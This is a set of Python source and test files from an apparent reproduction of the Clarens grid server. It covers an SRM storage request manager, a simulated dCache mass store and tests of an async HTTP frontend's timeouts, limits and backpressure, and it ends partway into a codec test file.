    INPROGRESS = "SRM_REQUEST_INPROGRESS"
    READY = "SRM_FILE_READY"
    DONE = "SRM_SUCCESS"
    FAILED = "SRM_FAILURE"
    RELEASED = "SRM_RELEASED"


@dataclass
class SRMRequest:
    """One get/put request."""

    request_id: int
    kind: str                      # "get" or "put"
    surl: str                      # logical path (storage URL)
    owner_dn: str
    state: RequestState = RequestState.QUEUED
    turl: str = ""                 # transfer URL (file-service path)
    error: str = ""
    created: float = field(default_factory=time.time)
    pin_seconds: float = 600.0
    space_token: str = ""

    def to_record(self) -> dict[str, Any]:
        return {
            "request_id": self.request_id,
            "kind": self.kind,
            "surl": self.surl,
            "state": self.state.value,
            "turl": self.turl,
            "error": self.error,
            "created": self.created,
            "space_token": self.space_token,
        }


@dataclass
class SpaceReservation:
    """A reserved chunk of storage (the SRM ``reserveSpace`` concept)."""

    token: str
    owner_dn: str
    size_bytes: int
    used_bytes: int = 0
    lifetime: float = 24 * 3600.0
    created: float = field(default_factory=time.time)

    @property
    def expired(self) -> bool:
        return time.time() > self.created + self.lifetime

    def to_record(self) -> dict[str, Any]:
        return {
            "token": self.token,
            "owner_dn": self.owner_dn,
            "size_bytes": self.size_bytes,
            "used_bytes": self.used_bytes,
            "expires": self.created + self.lifetime,
        }


class StorageResourceManager:
    """SRM request handling over a :class:`MassStorageSystem`.

    ``transfer_root`` is the directory (inside the Clarens virtual file root)
    where staged replicas and upload areas are exposed; the returned TURLs are
    file-service paths under it.
    """

    def __init__(self, store: MassStorageSystem, transfer_root: Path, *,
                 turl_prefix: str = "/srm-transfers") -> None:
        self.store = store
        self.transfer_root = Path(transfer_root)
        self.transfer_root.mkdir(parents=True, exist_ok=True)
        self.turl_prefix = "/" + turl_prefix.strip("/")
        self._requests: dict[int, SRMRequest] = {}
        self._spaces: dict[str, SpaceReservation] = {}
        self._request_ids = itertools.count(1)
        self._space_ids = itertools.count(1)
        self._lock = threading.Lock()

    # -- helpers ---------------------------------------------------------------------
    def _turl_for(self, surl: str) -> tuple[str, Path]:
        flat = surl.strip("/").replace("/", "__")
        return f"{self.turl_prefix}/{flat}", self.transfer_root / flat

    # -- get side ---------------------------------------------------------------------
    def prepare_to_get(self, owner_dn: str, surl: str, *, pin_seconds: float = 600.0) -> SRMRequest:
        """Start an asynchronous staging request for ``surl``."""

        with self._lock:
            request = SRMRequest(request_id=next(self._request_ids), kind="get", surl=surl,
                                 owner_dn=owner_dn, pin_seconds=pin_seconds)
            self._requests[request.request_id] = request
        self._process_get(request)
        return request

    def _process_get(self, request: SRMRequest) -> None:
        request.state = RequestState.INPROGRESS
        try:
            record = self.store.stage(request.surl, pin_seconds=request.pin_seconds)
            turl, local = self._turl_for(request.surl)
            local.parent.mkdir(parents=True, exist_ok=True)
            # Expose the online replica through the transfer area.  A hard link
            # keeps this zero-copy; fall back to a copy across filesystems.
            replica = self.store.disk_path(request.surl)
            if local.exists():
                local.unlink()
            try:
                local.hardlink_to(replica)
            except OSError:
                local.write_bytes(replica.read_bytes())
            request.turl = turl
            request.state = RequestState.READY
            request.error = ""
            _ = record
        except StorageError as exc:
            request.state = RequestState.FAILED
            request.error = str(exc)

    # -- put side ---------------------------------------------------------------------
    def prepare_to_put(self, owner_dn: str, surl: str, size_bytes: int, *,
                       space_token: str = "") -> SRMRequest:
        """Allocate an upload slot; the client writes the TURL then calls put_done."""

        with self._lock:
            if space_token:
                space = self._spaces.get(space_token)
                if space is None or space.expired:
                    request = SRMRequest(request_id=next(self._request_ids), kind="put",
                                         surl=surl, owner_dn=owner_dn,
                                         state=RequestState.FAILED,
                                         error=f"invalid space token {space_token!r}")
                    self._requests[request.request_id] = request
                    return request
                if space.used_bytes + size_bytes > space.size_bytes:
                    request = SRMRequest(request_id=next(self._request_ids), kind="put",
                                         surl=surl, owner_dn=owner_dn,
                                         state=RequestState.FAILED,
                                         error="space reservation exhausted")
                    self._requests[request.request_id] = request
                    return request
                space.used_bytes += size_bytes
            request = SRMRequest(request_id=next(self._request_ids), kind="put", surl=surl,
                                 owner_dn=owner_dn, space_token=space_token)
            turl, local = self._turl_for(surl)
            local.parent.mkdir(parents=True, exist_ok=True)
            request.turl = turl
            request.state = RequestState.READY
            self._requests[request.request_id] = request
            return request

    def put_done(self, request_id: int) -> SRMRequest:
        """Commit an upload: ingest the TURL's bytes into the mass store."""

        request = self.get_request(request_id)
        if request.kind != "put" or request.state is not RequestState.READY:
            raise StorageError(f"request {request_id} is not an open put request")
        _, local = self._turl_for(request.surl)
        if not local.exists():
            request.state = RequestState.FAILED
            request.error = "no data was written to the transfer URL"
            return request
        try:
            record = self.store.write(request.surl, local.read_bytes())
            self.store.flush_to_tape(request.surl)
            request.state = RequestState.DONE
            request.error = ""
            _ = record
        except StorageError as exc:
            request.state = RequestState.FAILED
            request.error = str(exc)
        return request

    # -- request / pin management ----------------------------------------------------------
    def get_request(self, request_id: int) -> SRMRequest:
        with self._lock:
            request = self._requests.get(int(request_id))
        if request is None:
            raise StorageError(f"no such SRM request: {request_id}")
        return request

    def release(self, request_id: int) -> SRMRequest:
        """Release the pin / transfer area of a completed get request."""

        request = self.get_request(request_id)
        if request.kind == "get" and request.state is RequestState.READY:
            self.store.unpin(request.surl)
            _, local = self._turl_for(request.surl)
            local.unlink(missing_ok=True)
            request.state = RequestState.RELEASED
        return request

    def requests_for(self, owner_dn: str) -> list[SRMRequest]:
        with self._lock:
            return sorted((r for r in self._requests.values() if r.owner_dn == owner_dn),
                          key=lambda r: r.request_id)

    # -- space reservation --------------------------------------------------------------------
    def reserve_space(self, owner_dn: str, size_bytes: int, *,
                      lifetime: float = 24 * 3600.0) -> SpaceReservation:
        with self._lock:
            token = f"space-{next(self._space_ids):06d}"
            reservation = SpaceReservation(token=token, owner_dn=owner_dn,
                                           size_bytes=int(size_bytes), lifetime=lifetime)
            self._spaces[token] = reservation
            return reservation

    def release_space(self, token: str) -> bool:
        with self._lock:
            return self._spaces.pop(token, None) is not None

    def space(self, token: str) -> SpaceReservation | None:
        with self._lock:
            return self._spaces.get(token)

    # -- namespace queries -----------------------------------------------------------------------
    def ls(self, prefix: str = "/") -> list[dict[str, Any]]:
        return self.store.listdir(prefix)

    def stat(self, surl: str) -> dict[str, Any]:
        return self.store.stat(surl)
