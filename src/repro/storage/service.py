"""The ``srm`` service: RPC access to the storage resource manager.

TURLs returned by the get/put calls are paths under the server's file
service, so the actual byte transfer uses the same authenticated, ACL-checked
GET/``file.write`` machinery as every other file — which is precisely the
integration the paper's future-work section describes (an SRM interface "such
that Clarens can support robust file transfer between different mass storage
facilities").
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from repro.core.context import CallContext
from repro.core.errors import AccessDeniedError, NotFoundError
from repro.core.service import ClarensService, rpc_method
from repro.storage.masstore import MassStorageSystem, StorageError
from repro.storage.srm import StorageResourceManager

__all__ = ["SRMService"]


class SRMService(ClarensService):
    """Storage Resource Manager methods over a simulated dCache."""

    service_name = "srm"

    def __init__(self, server) -> None:
        super().__init__(server)
        store_root = Path(server.file_root).parent / "masstore"
        transfer_root = Path(server.file_root) / "srm-transfers"
        self.store = MassStorageSystem(store_root)
        self.srm = StorageResourceManager(self.store, transfer_root,
                                          turl_prefix="/srm-transfers")

    # -- helpers ------------------------------------------------------------------------
    def _own_request(self, ctx: CallContext, request_id: int):
        request = self.srm.get_request(int(request_id))
        dn = ctx.require_dn()
        if request.owner_dn != dn and not self.server.vo.is_admin(dn):
            raise AccessDeniedError("this SRM request belongs to a different identity")
        return request

    # -- archive management (admins ingest production data) ---------------------------------
    @rpc_method()
    def archive(self, ctx: CallContext, surl: str, data: bytes,
                flush_to_tape: bool = True) -> dict[str, Any]:
        """Write a file into the mass store (administrators only)."""

        self.server.require_admin(ctx)
        try:
            record = self.store.write(surl, bytes(data))
            if flush_to_tape:
                self.store.flush_to_tape(surl)
        except StorageError as exc:
            raise NotFoundError(str(exc)) from exc
        return self.store.stat(surl)

    @rpc_method()
    def evict(self, ctx: CallContext, surl: str) -> dict[str, Any]:
        """Drop the disk replica of a tape-resident file (administrators only)."""

        self.server.require_admin(ctx)
        try:
            return self.store.evict(surl).to_record()
        except StorageError as exc:
            raise NotFoundError(str(exc)) from exc

    # -- namespace ----------------------------------------------------------------------------
    @rpc_method()
    def ls(self, ctx: CallContext, prefix: str = "/") -> list[dict[str, Any]]:
        """List namespace entries (logical path, size, locality, pin state)."""

        ctx.require_dn()
        return self.srm.ls(prefix)

    @rpc_method()
    def stat(self, ctx: CallContext, surl: str) -> dict[str, Any]:
        """Metadata for one logical file."""

        ctx.require_dn()
        try:
            return self.srm.stat(surl)
        except StorageError as exc:
            raise NotFoundError(str(exc)) from exc

    @rpc_method()
    def pools(self, ctx: CallContext) -> list[dict[str, Any]]:
        """Disk-pool occupancy (capacity/used/free)."""

        ctx.require_dn()
        return self.store.pools()

    # -- transfers ----------------------------------------------------------------------------
    @rpc_method()
    def prepare_to_get(self, ctx: CallContext, surl: str,
                       pin_seconds: float = 600.0) -> dict[str, Any]:
        """Stage a file and return the request (TURL present once READY)."""

        try:
            request = self.srm.prepare_to_get(ctx.require_dn(), surl,
                                              pin_seconds=float(pin_seconds))
        except StorageError as exc:
            raise NotFoundError(str(exc)) from exc
        return request.to_record()

    @rpc_method()
    def prepare_to_put(self, ctx: CallContext, surl: str, size_bytes: int,
                       space_token: str = "") -> dict[str, Any]:
        """Allocate an upload TURL for a new logical file."""

        request = self.srm.prepare_to_put(ctx.require_dn(), surl, int(size_bytes),
                                          space_token=space_token)
        return request.to_record()

    @rpc_method()
    def put_done(self, ctx: CallContext, request_id: int) -> dict[str, Any]:
        """Commit an upload after the TURL has been written via the file service."""

        self._own_request(ctx, request_id)
        try:
            return self.srm.put_done(int(request_id)).to_record()
        except StorageError as exc:
            raise NotFoundError(str(exc)) from exc

    @rpc_method()
    def status(self, ctx: CallContext, request_id: int) -> dict[str, Any]:
        """Status of one of the caller's requests."""

        return self._own_request(ctx, request_id).to_record()

    @rpc_method()
    def release(self, ctx: CallContext, request_id: int) -> dict[str, Any]:
        """Release the pin and transfer area of a completed get request."""

        self._own_request(ctx, request_id)
        return self.srm.release(int(request_id)).to_record()

    @rpc_method()
    def my_requests(self, ctx: CallContext) -> list[dict[str, Any]]:
        """All of the caller's SRM requests."""

        return [r.to_record() for r in self.srm.requests_for(ctx.require_dn())]

    # -- space reservation -----------------------------------------------------------------------
    @rpc_method()
    def reserve_space(self, ctx: CallContext, size_bytes: int,
                      lifetime: float = 86400.0) -> dict[str, Any]:
        """Reserve space for a set of uploads; returns the space token."""

        reservation = self.srm.reserve_space(ctx.require_dn(), int(size_bytes),
                                             lifetime=float(lifetime))
        return reservation.to_record()

    @rpc_method()
    def release_space(self, ctx: CallContext, token: str) -> bool:
        """Release a space reservation."""

        ctx.require_dn()
        return self.srm.release_space(token)

    @rpc_method()
    def pin(self, ctx: CallContext, surl: str, seconds: float = 600.0) -> dict[str, Any]:
        """Extend the pin lifetime of an online replica."""

        ctx.require_dn()
        try:
            return self.store.pin(surl, float(seconds)).to_record()
        except StorageError as exc:
            raise NotFoundError(str(exc)) from exc
