"""A simulated dCache-style mass storage system.

The real dCache presents a single namespace backed by disk pools in front of
a tape archive: files newly written land on a pool, may be flushed to tape,
and reading a tape-resident file requires *staging* it back to a pool (a slow
operation the SRM layer hides behind asynchronous requests).  This module
reproduces those behaviours with the knobs the SRM benchmarks and examples
need:

* a namespace mapping logical paths to file metadata (size, checksum,
  disk/tape residency, pins);
* disk pools with finite capacity and LRU eviction of unpinned replicas to
  "tape" (the archive directory);
* a configurable staging delay so the asynchronous SRM flow is observable.
"""

from __future__ import annotations

import hashlib
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

__all__ = ["MassStorageSystem", "StorageError", "FileRecord", "Pool"]


class StorageError(Exception):
    """Raised for unknown paths, full pools, or invalid state transitions."""


@dataclass
class FileRecord:
    """Metadata for one logical file in the namespace."""

    logical_path: str
    size: int
    checksum: str
    on_disk: bool
    on_tape: bool
    pool: str | None
    created: float = field(default_factory=time.time)
    last_access: float = field(default_factory=time.time)
    pinned_until: float = 0.0

    @property
    def pinned(self) -> bool:
        return self.pinned_until > time.time()

    def to_record(self) -> dict:
        return {
            "logical_path": self.logical_path,
            "size": self.size,
            "checksum": self.checksum,
            "locality": self._locality(),
            "pool": self.pool or "",
            "pinned_until": self.pinned_until,
        }

    def _locality(self) -> str:
        if self.on_disk and self.on_tape:
            return "ONLINE_AND_NEARLINE"
        if self.on_disk:
            return "ONLINE"
        if self.on_tape:
            return "NEARLINE"
        return "LOST"


@dataclass
class Pool:
    """A disk pool with finite capacity."""

    name: str
    capacity: int
    used: int = 0

    @property
    def free(self) -> int:
        return self.capacity - self.used


class MassStorageSystem:
    """Namespace + pools + tape archive, with staging."""

    def __init__(self, root: str | Path, *, pool_capacity: int = 256 << 20,
                 n_pools: int = 2, staging_delay: float = 0.0) -> None:
        self.root = Path(root)
        (self.root / "pools").mkdir(parents=True, exist_ok=True)
        (self.root / "tape").mkdir(parents=True, exist_ok=True)
        self.staging_delay = staging_delay
        self._pools = {f"pool-{i}": Pool(name=f"pool-{i}", capacity=pool_capacity)
                       for i in range(max(1, n_pools))}
        for pool in self._pools.values():
            (self.root / "pools" / pool.name).mkdir(exist_ok=True)
        self._namespace: dict[str, FileRecord] = {}
        self._lock = threading.Lock()
        self.stage_operations = 0
        self.flush_operations = 0

    # -- path helpers -----------------------------------------------------------------
    @staticmethod
    def _normalize(logical_path: str) -> str:
        cleaned = "/" + logical_path.strip("/")
        if ".." in cleaned.split("/"):
            raise StorageError(f"invalid logical path {logical_path!r}")
        return cleaned

    def _disk_path(self, record: FileRecord) -> Path:
        assert record.pool is not None
        return self.root / "pools" / record.pool / record.logical_path.strip("/").replace("/", "__")

    def _tape_path(self, record: FileRecord) -> Path:
        return self.root / "tape" / record.logical_path.strip("/").replace("/", "__")

    # -- pool management ----------------------------------------------------------------
    def _pick_pool(self, size: int) -> Pool:
        candidates = sorted(self._pools.values(), key=lambda p: p.free, reverse=True)
        if candidates and candidates[0].free >= size:
            return candidates[0]
        # Try to evict unpinned, tape-safe replicas (LRU first).
        victims = sorted((r for r in self._namespace.values()
                          if r.on_disk and r.on_tape and not r.pinned),
                         key=lambda r: r.last_access)
        for victim in victims:
            self._evict_locked(victim)
            candidates = sorted(self._pools.values(), key=lambda p: p.free, reverse=True)
            if candidates[0].free >= size:
                return candidates[0]
        raise StorageError("no pool has enough free space (all replicas pinned?)")

    def _evict_locked(self, record: FileRecord) -> None:
        if not (record.on_disk and record.on_tape) or record.pool is None:
            return
        self._disk_path(record).unlink(missing_ok=True)
        self._pools[record.pool].used -= record.size
        record.on_disk = False
        record.pool = None

    # -- writes --------------------------------------------------------------------------
    def write(self, logical_path: str, data: bytes) -> FileRecord:
        """Write a new file onto a disk pool (not yet on tape)."""

        logical_path = self._normalize(logical_path)
        with self._lock:
            if logical_path in self._namespace:
                raise StorageError(f"{logical_path} already exists in the namespace")
            pool = self._pick_pool(len(data))
            record = FileRecord(logical_path=logical_path, size=len(data),
                                checksum=hashlib.md5(data).hexdigest(),
                                on_disk=True, on_tape=False, pool=pool.name)
            self._disk_path(record).write_bytes(data)
            pool.used += len(data)
            self._namespace[logical_path] = record
            return record

    def flush_to_tape(self, logical_path: str) -> FileRecord:
        """Copy a disk-resident file to the tape archive (it stays on disk)."""

        with self._lock:
            record = self._require(logical_path)
            if not record.on_disk:
                raise StorageError(f"{logical_path} is not on disk")
            if not record.on_tape:
                self._tape_path(record).write_bytes(self._disk_path(record).read_bytes())
                record.on_tape = True
                self.flush_operations += 1
            return record

    def evict(self, logical_path: str) -> FileRecord:
        """Drop the disk replica of a tape-resident file (it becomes NEARLINE)."""

        with self._lock:
            record = self._require(logical_path)
            if record.pinned:
                raise StorageError(f"{logical_path} is pinned and cannot be evicted")
            if not record.on_tape:
                raise StorageError(f"{logical_path} has no tape copy; refusing to evict")
            self._evict_locked(record)
            return record

    # -- reads / staging ------------------------------------------------------------------
    def _require(self, logical_path: str) -> FileRecord:
        record = self._namespace.get(self._normalize(logical_path))
        if record is None:
            raise StorageError(f"no such file in namespace: {logical_path}")
        return record

    def stage(self, logical_path: str, *, pin_seconds: float = 600.0) -> FileRecord:
        """Ensure a disk replica exists (staging from tape if needed) and pin it."""

        with self._lock:
            record = self._require(logical_path)
            if not record.on_disk:
                if not record.on_tape:
                    raise StorageError(f"{logical_path} is lost (neither disk nor tape)")
                if self.staging_delay:
                    time.sleep(self.staging_delay)
                pool = self._pick_pool(record.size)
                record.pool = pool.name
                self._disk_path(record).write_bytes(self._tape_path(record).read_bytes())
                pool.used += record.size
                record.on_disk = True
                self.stage_operations += 1
            record.last_access = time.time()
            record.pinned_until = max(record.pinned_until, time.time() + pin_seconds)
            return record

    def read(self, logical_path: str) -> bytes:
        """Read a disk-resident file's bytes (stage first if NEARLINE)."""

        record = self.stage(logical_path, pin_seconds=0.0)
        with self._lock:
            return self._disk_path(record).read_bytes()

    def disk_path(self, logical_path: str) -> Path:
        """The on-disk replica path (for zero-copy serving); file must be ONLINE."""

        with self._lock:
            record = self._require(logical_path)
            if not record.on_disk:
                raise StorageError(f"{logical_path} is not online; stage it first")
            return self._disk_path(record)

    # -- pinning / queries -------------------------------------------------------------------
    def pin(self, logical_path: str, seconds: float) -> FileRecord:
        with self._lock:
            record = self._require(logical_path)
            record.pinned_until = max(record.pinned_until, time.time() + seconds)
            return record

    def unpin(self, logical_path: str) -> FileRecord:
        with self._lock:
            record = self._require(logical_path)
            record.pinned_until = 0.0
            return record

    def stat(self, logical_path: str) -> dict:
        with self._lock:
            return self._require(logical_path).to_record()

    def listdir(self, prefix: str = "/") -> list[dict]:
        prefix = self._normalize(prefix)
        with self._lock:
            return [r.to_record() for p, r in sorted(self._namespace.items())
                    if p == prefix or p.startswith(prefix.rstrip("/") + "/")]

    def pools(self) -> list[dict]:
        with self._lock:
            return [{"name": p.name, "capacity": p.capacity, "used": p.used, "free": p.free}
                    for p in self._pools.values()]

    def delete(self, logical_path: str) -> bool:
        with self._lock:
            record = self._namespace.pop(self._normalize(logical_path), None)
            if record is None:
                return False
            if record.on_disk and record.pool:
                self._disk_path(record).unlink(missing_ok=True)
                self._pools[record.pool].used -= record.size
            if record.on_tape:
                self._tape_path(record).unlink(missing_ok=True)
            return True
