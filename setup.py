"""Setuptools entry point.

The project is fully described by ``pyproject.toml``; this shim exists so the
package can be installed in environments whose setuptools predates PEP 660
editable-install support (``pip install -e . --no-use-pep517``).
"""

from setuptools import setup

setup()
