"""The event-loop HTTP frontend.

Wire-level parity with the threaded server (both run the shared
:class:`HTTPRequestParser`, so the 400/411/413/501 rules must match),
plus the behaviours only the async frontend promises: pipelined batch
dispatch, slow-loris timeouts on a non-blocking read, connection and
admission backpressure, and ``stop()`` severing in-flight keep-alive
connections.
"""

from __future__ import annotations

import http.client
import socket
import time

import pytest

from repro.core.config import ConfigError, ServerConfig
from repro.core.errors import RetryLaterError
from repro.core.server import ClarensServer
from repro.httpd.aio import AsyncHTTPServer
from repro.httpd.message import MAX_HEADER_BYTES, HTTPRequest, HTTPResponse
from repro.httpd.sendfile import FilePayload
from repro.httpd.server import SocketHTTPServer
from repro.protocols import RPCRequest, XMLRPCCodec
from repro.protocols.errors import FaultCode


def echo_handler(request: HTTPRequest) -> HTTPResponse:
    body = f"{request.method} {request.url_path} {len(request.body)}".encode()
    return HTTPResponse.ok(body, content_type="text/plain")


class _ResponseReader:
    """Read HTTP responses off a raw socket, keeping pipelined leftovers."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.buffer = b""

    def read_response(self) -> tuple[int, bytes]:
        while b"\r\n\r\n" not in self.buffer:
            part = self.sock.recv(4096)
            if not part:
                raise ConnectionError("EOF before response head")
            self.buffer += part
        head, rest = self.buffer.split(b"\r\n\r\n", 1)
        status = int(head.split(b" ", 2)[1])
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value.strip())
        while len(rest) < length:
            part = self.sock.recv(4096)
            if not part:
                break
            rest += part
        self.buffer = rest[length:]
        return status, rest[:length]


def _read_response(sock: socket.socket) -> tuple[int, bytes]:
    """Read one full HTTP response off a raw socket."""

    return _ResponseReader(sock).read_response()


@pytest.fixture()
def running_server():
    server = AsyncHTTPServer(echo_handler).start()
    yield server
    server.stop()


class TestAsyncHTTPServer:
    def test_simple_get(self, running_server):
        host, port = running_server.address
        conn = http.client.HTTPConnection(host, port, timeout=5)
        conn.request("GET", "/hello/world")
        response = conn.getresponse()
        assert response.status == 200
        assert response.read() == b"GET /hello/world 0"
        conn.close()

    def test_post_with_body(self, running_server):
        host, port = running_server.address
        conn = http.client.HTTPConnection(host, port, timeout=5)
        conn.request("POST", "/rpc", body=b"x" * 100)
        assert conn.getresponse().read() == b"POST /rpc 100"
        conn.close()

    def test_keepalive_reuses_connection(self, running_server):
        host, port = running_server.address
        conn = http.client.HTTPConnection(host, port, timeout=5)
        for i in range(5):
            conn.request("GET", f"/req/{i}")
            assert conn.getresponse().read().endswith(f"/req/{i} 0".encode())
        conn.close()
        assert running_server.connections_accepted == 1
        assert running_server.requests_served == 5

    def test_pipelined_requests_answered_in_order(self, running_server):
        host, port = running_server.address
        wire = b"".join(f"GET /p/{i} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
                        for i in range(3))
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(wire)
            reader = _ResponseReader(sock)
            for i in range(3):
                status, body = reader.read_response()
                assert status == 200
                assert body == f"GET /p/{i} 0".encode()
        assert running_server.requests_served == 3
        # The point of batching: fewer dispatch round-trips than requests.
        assert running_server.batches_served <= 3

    def test_connection_close_drops_pipelined_tail(self, running_server):
        """A pipelined request behind ``Connection: close`` is disowned."""

        host, port = running_server.address
        wire = (b"GET /a HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
                b"GET /b HTTP/1.1\r\nHost: x\r\n\r\n")
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(wire)
            status, body = _read_response(sock)
            assert status == 200
            assert body == b"GET /a 0"
            assert sock.recv(4096) == b""       # closed, /b never answered
        assert running_server.requests_served == 1

    def test_slow_loris_honours_request_timeout(self):
        """A client dribbling a partial head is cut off, not parked forever."""

        with AsyncHTTPServer(echo_handler, request_timeout=0.4) as server:
            host, port = server.address
            start = time.monotonic()
            with socket.create_connection((host, port), timeout=5) as sock:
                sock.sendall(b"GET /slow HTTP/1.1\r\nX-Dribble: a")
                assert sock.recv(4096) == b""   # server closed on timeout
            assert time.monotonic() - start < 5.0

    def test_oversized_headers_rejected_with_413(self, running_server):
        host, port = running_server.address
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nX-Big: " +
                         b"a" * (MAX_HEADER_BYTES + 1024))
            status, _ = _read_response(sock)
        assert status == 413

    def test_post_without_content_length_rejected(self, running_server):
        host, port = running_server.address
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"POST /rpc HTTP/1.1\r\nHost: x\r\n\r\n")
            status, _ = _read_response(sock)
        assert status == 411

    def test_malformed_request_line_gets_400(self, running_server):
        host, port = running_server.address
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"TOTALLY BROKEN\r\n\r\n")
            status, _ = _read_response(sock)
        assert status == 400

    def test_mid_body_disconnect_leaves_server_healthy(self, running_server):
        host, port = running_server.address
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"POST /rpc HTTP/1.1\r\nHost: x\r\n"
                         b"Content-Length: 100\r\n\r\nonly-ten-b")
        # The truncated request must not take the loop down with it.
        conn = http.client.HTTPConnection(host, port, timeout=5)
        conn.request("GET", "/after")
        assert conn.getresponse().read() == b"GET /after 0"
        conn.close()

    def test_handler_exception_becomes_500(self):
        def broken(request: HTTPRequest) -> HTTPResponse:
            raise RuntimeError("kaboom")

        with AsyncHTTPServer(broken) as server:
            host, port = server.address
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("GET", "/x")
            assert conn.getresponse().status == 500
            conn.close()

    def test_file_payload_streamed(self, tmp_path):
        data = b"event-data" * 10_000
        path = tmp_path / "events.dat"
        path.write_bytes(data)

        def handler(request: HTTPRequest) -> HTTPResponse:
            return HTTPResponse.ok(FilePayload(str(path)),
                                   content_type="application/octet-stream")

        with AsyncHTTPServer(handler) as server:
            host, port = server.address
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("GET", "/events.dat")
            response = conn.getresponse()
            assert response.status == 200
            assert response.read() == data
            conn.close()

    def test_stop_severs_established_keepalive_connections(self):
        """Same split-world guarantee the threaded server makes: a stopped
        frontend must not keep serving clients parked on old keep-alive
        sockets after a same-port restart."""

        server = AsyncHTTPServer(echo_handler).start()
        host, port = server.address
        conn = http.client.HTTPConnection(host, port, timeout=5)
        conn.request("GET", "/before")
        assert conn.getresponse().read() == b"GET /before 0"
        server.stop()
        with pytest.raises((ConnectionError, http.client.HTTPException,
                            OSError)):
            conn.request("GET", "/after")
            conn.getresponse().read()
        conn.close()

    def test_inline_dispatch_without_executor(self):
        """``executor_workers=0`` runs handlers on the loop thread."""

        with AsyncHTTPServer(echo_handler, executor_workers=0) as server:
            host, port = server.address
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("GET", "/inline")
            assert conn.getresponse().read() == b"GET /inline 0"
            conn.close()
            assert server._executor is None


class TestAsyncBackpressure:
    def test_surplus_connection_refused_with_429(self):
        with AsyncHTTPServer(echo_handler, max_connections=1) as server:
            host, port = server.address
            with socket.create_connection((host, port), timeout=5) as first:
                # One served request guarantees the connection is registered
                # before the second one races the accept loop.
                first.sendall(b"GET /held HTTP/1.1\r\nHost: x\r\n\r\n")
                status, _ = _read_response(first)
                assert status == 200
                with socket.create_connection((host, port), timeout=5) as second:
                    second.sendall(b"GET /surplus HTTP/1.1\r\nHost: x\r\n\r\n")
                    status, _ = _read_response(second)
                    assert status == 429
            assert server.connections_rejected == 1

    def test_gate_refusal_uses_overload_handler(self):
        released = []

        def gate(request: HTTPRequest):
            if request.url_path == "/shed":
                raise RetryLaterError("loop is saturated", retry_after=0.25)
            return lambda: released.append(request.url_path)

        with AsyncHTTPServer(echo_handler, gate=gate) as server:
            host, port = server.address
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("GET", "/ok")
            assert conn.getresponse().read() == b"GET /ok 0"
            conn.request("GET", "/shed")
            response = conn.getresponse()
            body = response.read()
            assert response.status == 429
            assert b"saturated" in body
            conn.close()
            assert released == ["/ok"]          # admitted request released
            assert server.requests_rejected == 1
            assert server.requests_served == 2  # the 429 is still a response


class TestFrontendSelection:
    def test_unknown_transport_fails_eagerly(self):
        with pytest.raises(ConfigError):
            ServerConfig(server_transport="carrier-pigeon")

    def test_frontend_follows_the_knob(self):
        server, _ca = ClarensServer.with_test_pki(
            ServerConfig(server_transport="async"))
        try:
            assert isinstance(server.frontend(), AsyncHTTPServer)
        finally:
            server.close()
        server, _ca = ClarensServer.with_test_pki()
        try:
            assert isinstance(server.frontend(), SocketHTTPServer)
        finally:
            server.close()

    def test_overload_response_is_a_retry_later_fault(self):
        """Transport backpressure surfaces to RPC clients exactly like
        pipeline-level shedding: a protocol fault in the request's codec."""

        server, _ca = ClarensServer.with_test_pki(
            ServerConfig(server_transport="async", async_max_inflight=4))
        try:
            codec = XMLRPCCodec()
            request = HTTPRequest(
                method="POST", path=server.config.rpc_path(),
                body=codec.encode_request(RPCRequest("system.ping")))
            request.headers.set("Content-Type", codec.content_type)
            response = server._overload_response(
                request, RetryLaterError("too many in flight",
                                         retry_after=1.5))
            assert response.status == 429
            assert response.headers.get("Retry-After") == "1.500"
            decoded = codec.decode_response(response.body_bytes())
            assert decoded.is_fault
            assert decoded.fault.code == FaultCode.RETRY_LATER
            assert "too many in flight" in decoded.fault.message
        finally:
            server.close()

    def test_async_frontend_serves_a_real_rpc(self):
        """End to end through ``frontend()``: an XML-RPC call over a real
        socket against the event-loop transport."""

        server, _ca = ClarensServer.with_test_pki(
            ServerConfig(server_transport="async"))
        try:
            with server.frontend() as frontend:
                codec = XMLRPCCodec()
                body = codec.encode_request(RPCRequest("system.list_methods"))
                host, port = frontend.address
                conn = http.client.HTTPConnection(host, port, timeout=5)
                conn.request("POST", server.config.rpc_path(), body=body,
                             headers={"Content-Type": codec.content_type})
                response = conn.getresponse()
                assert response.status == 200
                decoded = codec.decode_response(response.read())
                assert not decoded.is_fault
                assert "system.list_methods" in decoded.result
                conn.close()
        finally:
            server.close()
