"""RPC protocol codecs: XML-RPC, SOAP, JSON-RPC and negotiation."""

from __future__ import annotations

import datetime as dt

import pytest
from hypothesis import given, settings, strategies as st

from repro.protocols import (
    BinaryCodec,
    Fault,
    JSONRPCCodec,
    ProtocolError,
    RPCRequest,
    RPCResponse,
    SOAPCodec,
    XMLRPCCodec,
    codec_for_content_type,
    default_codec,
    detect_codec,
)
from repro.protocols.negotiate import all_codecs, codec_by_name
from repro.protocols.types import validate_value

CODECS = [XMLRPCCodec(), SOAPCodec(), JSONRPCCodec(), BinaryCodec()]
CODEC_IDS = [c.name for c in CODECS]

SAMPLE_VALUES = [
    None,
    True,
    False,
    0,
    -17,
    2**40,               # beyond 32-bit, exercises the i8 / long paths
    3.5,
    "plain string",
    "unicode ✓ <&> \"quotes\"",
    b"\x00\x01binary\xff",
    dt.datetime(2005, 6, 14, 12, 30, 45),
    [1, "two", 3.0, None],
    {"nested": {"list": [1, [2, [3]]], "flag": True}},
    {},
    [],
]


@pytest.mark.parametrize("codec", CODECS, ids=CODEC_IDS)
class TestRoundTrips:
